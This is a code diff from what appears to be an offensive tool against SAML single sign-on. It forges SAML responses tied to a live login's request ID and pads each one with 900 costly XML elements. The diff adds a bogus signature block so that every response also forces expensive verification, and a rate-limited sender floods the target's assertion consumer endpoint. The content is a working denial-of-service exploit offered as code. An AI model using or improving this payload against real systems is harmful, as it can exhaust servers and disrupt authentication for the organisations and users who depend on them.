@@ -22,13 +22,28 @@ async function requestIdOfNewLogin(target: Target): Promise<string | null> {
   return request ? / ID="([^"]+)"/.exec(inflateRawSync(Buffer.from(request, 'base64')).toString())![1]! : null;
 }
 
-/** A forged response, of which each element is expensive to parse. */
+const algorithms = {
+  exclusive: 'http://www.w3.org/2001/10/xml-exc-c14n#',
+  enveloped: 'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
+  rsa: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
+  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
+};
+
+/** A well-formed signature of the response, which no key has made. */
+const signature =
+  '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>' +
+  `<ds:CanonicalizationMethod Algorithm="${algorithms.exclusive}"/><ds:SignatureMethod Algorithm="${algorithms.rsa}"/>` +
+  `<ds:Reference URI="#_r"><ds:Transforms><ds:Transform Algorithm="${algorithms.enveloped}"/></ds:Transforms>` +
+  `<ds:DigestMethod Algorithm="${algorithms.sha256}"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo>` +
+  `<ds:SignatureValue>${'A'.repeat(344)}</ds:SignatureValue></ds:Signature>`;
+
+/** A forged response, of which each element is expensive to parse and to verify. */
 function responseTo(requestId: string, { saml: { orgId, origin } }: Target): string {
-  const element = '<a xmlns:b="c" xmlns:d="e"/>';
+  const element = '<a xmlns:b="c" xmlns:d="e" f="g"/>';
   const head =
     '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0" ' +
     `Destination="${origin}/saml/acs/${orgId}/" InResponseTo="${requestId}">`;
-  return Buffer.from(`${head}${element.repeat(900)}</samlp:Response>`).toString('base64');
+  return Buffer.from(`${head}${signature}${element.repeat(900)}</samlp:Response>`).toString('base64');
 }
 
 async function forgeResponses(target: Target, bucket: TokenBucket): Promise<void> {
